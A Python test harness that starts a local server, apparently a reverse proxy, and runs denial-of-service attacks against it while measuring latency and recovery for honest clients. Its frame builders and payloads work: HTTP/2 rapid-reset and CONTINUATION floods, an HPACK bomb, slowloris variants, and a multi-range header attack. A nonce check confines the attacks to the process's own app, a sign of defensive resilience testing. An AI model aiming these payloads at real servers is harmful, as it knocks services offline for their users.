"""Attacks on a server that this program starts, and what honest clients see of them.

`attack.py FOLDER TEMPLATE CONNECTIONS SECONDS NAMES PROGRAM WORDS...` opens an app, writes FOLDER/config from the template for it,
starts `PROGRAM WORDS...` there and prints one line of JSON for each attack; NAMES is a list with commas, or `all`. FOLDER holds a
certificate, `shop.pem` and `shop.key`; attacks of HTTP/2 and TLS come over TLS. There is no other target: before each attack the
listener must answer with the nonce of this run, which only the app in this process knows. Every attack ends by itself. For the
attack `full table` the template's {slots}, {worker_slots} and {limits} leave room for half of the attackers.
"""

import asyncio
import json
import multiprocessing
import resource
import secrets
import socket
import ssl
import struct
import subprocess
import sys
import time
from pathlib import Path

# What works on dear requests, 40 ms each, and a millisecond on each part of a file.
WORKERS = asyncio.Semaphore(8)
PATIENCE = 2
PAUSE = 0.1
ATTACKERS_PER_ADDRESS = 10
LARGE = b"x" * 3_000_000
NONCE = secrets.token_hex(16).encode()
UNKNOWN, KNOWN = "127.9.0.1", "127.9.1.1"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_HEADERS, END_STREAM = 4, 1


def frame(kind, flags, stream, payload):
    """A frame of HTTP/2 (RFC 9113, section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def head(method, path):
    """A field section without compression (RFC 7541): method from the static table, https, path and authority as literals."""
    fields = bytes([0x82 if method == "GET" else 0x83, 0x87, 0x04, len(path)]) + path
    return fields + bytes([0x01, 8]) + b"app.test"


def broken(kind, payload):
    """A hundred streams a turn, each followed at once by a frame that ends it."""

    def turn_of(turn):
        numbers = range(1 + 200 * turn, 201 + 200 * turn, 2)
        begun = lambda n: frame(HEADERS, END_HEADERS | END_STREAM, n, head("GET", b"/"))
        return b"".join(begun(n) + frame(kind, 0, n, payload) for n in numbers)

    return turn_of


def text(value):
    """A string of at most 16,510 bytes without Huffman coding (RFC 7541, sections 5.1 and 5.2)."""
    over = len(value) - 127
    return (bytes([len(value)]) if over < 0 else bytes([127, over % 128 | 128, over // 128])) + value


def bomb(turn):
    """A request whose 8 KB of fields are 16 MB for whoever writes them out: one field fills the table, and comes 4,000 times."""
    filling = bytes([0x40]) + text(b"a") + text(b"x" * 4_000)
    fields = head("GET", b"/") + filling + bytes([0x80 | 62]) * 4_000
    return frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * turn, fields)


def streams(method, path, flags, data=None):
    """Twenty streams that begin alike."""
    numbers = range(1, 41, 2)
    begun = b"".join(frame(HEADERS, END_HEADERS | flags, n, head(method, path)) for n in numbers)
    return begun + (b"".join(frame(DATA, 0, n, data) for n in numbers) if data is not None else b"")


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
NO_WINDOW = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
OPEN = PREFACE + frame(SETTINGS, 0, 0, b"")
# The other side may keep as large a table for its answers as there can be.
LARGE_TABLE = frame(SETTINGS, 0, 0, struct.pack(">HI", 1, 2**32 - 1))
# On a window that is open it is more than a window can be: the other side must take the stream back (RFC 9113, section 6.9.1).
TOO_WIDE = struct.pack(">I", 2**31 - 1)
# Many small fields, without compression.
FIELDS = (bytes([0x00, 1]) + b"a" + bytes([1]) + b"b") * 2_000
# As below, over HTTP/2.
ATTACKS_2 = {
    "closed windows": (PREFACE + NO_WINDOW + streams("GET", b"/", END_STREAM), b"", 1),
    "large closed windows": (PREFACE + NO_WINDOW + streams("GET", b"/large", END_STREAM), b"", 1),
    "unfinished streams": (OPEN + streams("POST", b"/upload", 0, b"x" * 16), b"", 1),
    # CVE-2023-44487, and CVE-2025-8671.
    "resets": (OPEN, broken(RST_STREAM, struct.pack(">I", 8)), 0.1),
    "made resets": (OPEN, broken(WINDOW_UPDATE, TOO_WIDE), 0.1),
    "endless headers": (OPEN + frame(HEADERS, 0, 1, head("GET", b"/")), frame(CONTINUATION, 0, 1, FIELDS), 0.1),
    "pings": (OPEN, frame(PING, 0, 0, b"x" * 8) * 500, 0.1),
    "settings": (OPEN, frame(SETTINGS, 0, 0, b"") * 500, 0.1),
    "window updates": (OPEN, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 500, 0.1),
    "priorities": (OPEN, b"".join(frame(PRIORITY, 0, n, struct.pack(">IB", 0, 16)) for n in range(1, 1001, 2)), 0.1),
    "header tables": (PREFACE + LARGE_TABLE, bomb, 0.1),
    "empty frames": (OPEN + streams("POST", b"/upload", 0), frame(DATA, 0, 1, b""), 0.1),
}
HOST = b" HTTP/1.1\r\nHost: app.test\r\n"
UPLOAD = b"POST /upload" + HOST
# 28 KB of fields without an end, and five hundred parts of a file (CVE-2011-3192).
LARGE_FIELDS = b"".join(b"X-%d: %s\r\n" % (n, b"x" * 690) for n in range(40))
PARTS = b"Range: bytes=" + b",".join(b"%d-%d" % (2 * n, 2 * n) for n in range(500)) + b"\r\n"
# What is sent first, what is sent again and again, and after how many seconds; None reads the answer drop by drop, END goes at once.
END = object()
# What an honest client sees that is asked to come back later.
AWAY = "away"
ATTACKS = {
    "slow headers": (b"GET /" + HOST, b"X-a: b\r\n", 1),
    "large headers": (b"GET /" + HOST + LARGE_FIELDS, b"X-a: b\r\n", 1),
    "slow body": (UPLOAD + b"Content-Length: 1000000\r\n\r\n", b"x", 1),
    "stopped upload": (UPLOAD + b"Content-Length: 1000000\r\n\r\n" + b"x" * 100_000, b"", 1),
    "tiny chunks": (UPLOAD + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\nx\r\n", 0.1),
    "unfinished body": (UPLOAD + b"Transfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n", b"", 1),
    "slow reading": (b"GET /large" + HOST + b"\r\n", None, 1),
    "idle": (b"", b"", 1),
    "requests": (b"", (b"GET /" + HOST + b"\r\n") * 5, 0.05),
    "dear requests": (b"", (b"GET /dear" + HOST + b"\r\n") * 5, 0.05),
    "many parts": (b"", b"GET /" + HOST + PARTS + b"\r\n", 1),
    "pipelined": ((b"GET /" + HOST + b"\r\n") * 50, b"", 1),
    # More connections than there is room for, none of them idle for long.
    "full table": (b"GET /" + HOST + b"\r\n", b"GET /" + HOST + b"\r\n", 2),
    "websockets": (
        b"GET /socket" + HOST + b"Connection: Upgrade\r\nUpgrade: websocket\r\n"
        b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n",
        b"",
        1,
    ),
}
# As above, over TLS: a handshake and nothing else.
HANDSHAKES = {"handshakes": (b"", END, 0)}
# As above, to the port with TLS, but without it: the begin of a handshake, byte by byte.
DRIPS = {"slow handshakes": (b"\x16", lambda turn: HELLO[1 + turn : 2 + turn], 1)}
# Attacks by work of the app, during which honest clients ask for some, too.
DEAR = {"dear requests", "many parts"}


async def serve(reader, writer):
    """The app: it reads bodies to their end, and agrees to WebSockets."""
    try:
        while True:
            head = (await reader.readuntil(b"\r\n\r\n")).lower()
            if b"upgrade: websocket" in head:
                writer.write(
                    b"HTTP/1.1 101 Switching Protocols\r\nupgrade: websocket\r\n"
                    b"connection: Upgrade\r\nsec-websocket-accept: x\r\n\r\n"
                )
                await reader.read()
                return
            await read_body(reader, head)
            if work := seconds_of_work(head):
                async with WORKERS:
                    await asyncio.sleep(work)
            body = LARGE if head.startswith(b"get /large") else NONCE
            signed_in = b"portcullis-login: ann\r\n" if head.startswith(b"get /in") else b""
            writer.write(b"HTTP/1.1 200 OK\r\n%scontent-length: %d\r\n\r\n" % (signed_in, len(body)))
            writer.write(body)
            await writer.drain()
    except (OSError, asyncio.IncompleteReadError, ValueError):
        pass
    finally:
        writer.close()


def seconds_of_work(head):
    """What a request costs the app: some are dear, and each part of a file that is asked for costs something."""
    parts = head.split(b"range: bytes=")[1].split(b"\r\n")[0].count(b",") + 1 if b"range: bytes=" in head else 0
    return 0.001 * parts + (0.04 if head.startswith(b"get /dear") else 0)


async def read_body(reader, head):
    """Reads a body of known length, or one in chunks."""
    if b"content-length:" in head:
        await reader.readexactly(int(head.split(b"content-length:")[1].split(b"\r\n")[0]))
    while b"chunked" in head:
        length = int(await reader.readline(), 16)
        await reader.readexactly(length + 2)
        if length == 0:
            return


async def ask(listen, source, path=b"/", field=b""):
    """The answer that an honest client gets on a connection of its own."""
    reader, writer = await asyncio.open_connection("127.0.0.1", listen, local_addr=(source, 0))
    try:
        writer.write(b"GET " + path + HOST + field + b"Connection: close\r\n\r\n")
        return await reader.read()
    finally:
        writer.close()


async def is_served(listen, source=UNKNOWN, path=b"/", field=b""):
    """After how many seconds an honest client gets this run's nonce; AWAY if it is asked to come back, None if neither in time."""
    begun = time.monotonic()
    try:
        answer = await asyncio.wait_for(ask(listen, source, path, field), PATIENCE)
    except (OSError, asyncio.TimeoutError):
        return None
    if NONCE in answer:
        return time.monotonic() - begun
    return AWAY if answer.startswith((b"HTTP/1.1 503 ", b"HTTP/1.1 429 ")) and b"retry-after: " in answer.lower() else None


async def becomes_served(listen):
    """Whether an honest client is served within ten seconds."""
    for _ in range(100):
        if await is_served(listen) not in (None, AWAY):
            return True
        await asyncio.sleep(PAUSE)
    return False


async def sign_in(listen):
    """What a customer sends who has signed in; nothing where nobody remembers customers."""
    answer = await ask(listen, KNOWN, b"/in")
    cookies = [line.split(b": ", 1)[1].split(b";")[0] for line in answer.split(b"\r\n") if line.lower().startswith(b"set-cookie: ")]
    return b"Cookie: " + b"; ".join(cookies) + b"\r\n" if cookies else b""


async def visit(until, *who):
    """What one honest client sees that asks ten times a second, whatever becomes of it: after how many seconds it was served."""
    asked = []
    while time.monotonic() < until:
        asked.append(asyncio.create_task(is_served(*who)))
        await asyncio.sleep(PAUSE)
    return await asyncio.gather(*asked)


async def attacker(number, target, attack, until):
    """One connection after the other, until the time is over."""
    source = f"127.0.{10 + number // ATTACKERS_PER_ADDRESS}.{1 + number % ATTACKERS_PER_ADDRESS}"
    while time.monotonic() < until:
        try:
            await hold(source, target, attack, until)
        except (OSError, asyncio.TimeoutError):
            pass
        await asyncio.sleep(0.4)


async def hold(source, target, attack, until):
    """Holds one connection as long as it is let."""
    (port, security), (first, again, pause) = target, attack
    plain = socket.socket()
    plain.setblocking(False)
    if again is None:
        plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    plain.bind((source, 0))
    await asyncio.get_running_loop().sock_connect(plain, ("127.0.0.1", port))
    name = security and "app.test"
    reader, writer = await asyncio.open_connection(sock=plain, limit=256, ssl=security, server_hostname=name)
    try:
        writer.write(first)
        turn = 0
        while again is not END and time.monotonic() < until and not reader.at_eof() and not writer.is_closing():
            await asyncio.sleep(pause)
            if again is None:
                await asyncio.wait_for(reader.read(100), PATIENCE)
            elif again:
                writer.write(again(turn) if callable(again) else again)
                turn += 1
                await asyncio.wait_for(writer.drain(), PATIENCE)
    finally:
        writer.close()


def trusting(protocols):
    """The client's side of TLS: whoever answers there was started by this program."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(protocols)
    return context


def hello():
    """The first message of a client of TLS (RFC 8446, section 4.1.2), in its record."""
    out = ssl.MemoryBIO()
    client = trusting(["http/1.1"]).wrap_bio(ssl.MemoryBIO(), out, server_hostname="app.test")
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


HELLO = hello()


def attack_from_here(name, connections, seconds, listen, tls):
    """All attackers of one attack; a process of its own, so that honest clients do not wait for them."""
    if name in ATTACKS:
        attack, target = ATTACKS[name], (listen, None)
    elif name in ATTACKS_2:
        attack, target = ATTACKS_2[name], (tls, trusting(["h2"]))
    elif name in DRIPS:
        attack, target = DRIPS[name], (tls, None)
    else:
        attack, target = HANDSHAKES[name], (tls, trusting(["http/1.1"]))

    async def all_of_them():
        until = time.monotonic() + seconds
        tasks = [asyncio.create_task(attacker(n, target, attack, until)) for n in range(connections)]
        for task in (await asyncio.wait(tasks, timeout=seconds + 2 * PATIENCE))[1]:
            task.cancel()

    asyncio.run(all_of_them())


async def measure(name, connections, seconds, listen, tls):
    """One attack, and what honest clients saw meanwhile and after it."""
    if not await becomes_served(listen):
        raise SystemExit("the listener does not lead to this run's app")
    field = await sign_in(listen)
    arguments = (name, connections, seconds, listen, tls)
    attackers = multiprocessing.get_context("fork").Process(target=attack_from_here, args=arguments)
    attackers.start()
    until = time.monotonic() + seconds
    path = b"/dear" if name in DEAR else b"/"
    unknown, known = await asyncio.gather(
        visit(until, listen, UNKNOWN, path), visit(until, listen, KNOWN, path, field)
    )
    await asyncio.to_thread(attackers.join, seconds + 3 * PATIENCE)
    attackers.kill()
    recovered = await becomes_served(listen)
    return {"attack": name, "unknown": seen(unknown), "known": seen(known), "remembered": bool(field), "recovered": recovered}


def seen(times):
    """How often somebody asked, was served and was turned away, and the time within which half and nineteen of twenty answers came."""
    served = sorted(time for time in times if time not in (None, AWAY))
    at = lambda share: round(served[int(share * (len(served) - 1))] * 1000, 1) if served else None
    return {"asked": len(times), "served": len(served), "turned_away": times.count(AWAY), "p50_ms": at(0.5), "p95_ms": at(0.95)}


def free_port():
    """A port that nobody listens on."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def room(name, connections):
    """What a template says of room for connections: as much as usual, or for half of the attackers and not fewer than 64.

    Each of two workers of nginx has half of it, and as many slots as it may keep connections to the app, which count there too.
    """
    if name != "full table":
        return {"slots": 8192, "worker_slots": 8192, "limits": ""}
    slots = max(64, connections // 2)
    return {"slots": slots, "worker_slots": slots // 2 + 64, "limits": f"[limits]\nconnections = {slots}"}


async def main(folder, template, connections, seconds, names, command):
    """The attacks, each against a new process."""
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    app = await asyncio.start_server(serve, "127.0.0.1", 0, backlog=1024)
    origin = app.sockets[0].getsockname()[1]
    every = [*ATTACKS, *ATTACKS_2, *HANDSHAKES, *DRIPS]
    for number, name in enumerate(every if names == "all" else names.split(",")):
        ports = {"listen": free_port(), "tls": free_port(), "console": free_port(), "origin": origin}
        config = Path(template).read_text()
        places = {**ports, **room(name, int(connections)), "state": folder / str(number), "folder": folder}
        for place, value in places.items():
            config = config.replace("{" + place + "}", str(value))
        (folder / "config").write_text(config)
        with open(folder / "log", "ab") as log:
            server = subprocess.Popen(command, cwd=folder, stdout=log, stderr=log)
        try:
            seen_of_it = await measure(name, int(connections), float(seconds), ports["listen"], ports["tls"])
            print(json.dumps(seen_of_it), flush=True)
        finally:
            server.terminate()
            server.wait()


if __name__ == "__main__":
    FOLDER, TEMPLATE, COUNT, LENGTH, NAMES, *COMMAND = sys.argv[1:]
    asyncio.run(main(Path(FOLDER), TEMPLATE, COUNT, LENGTH, NAMES, COMMAND))
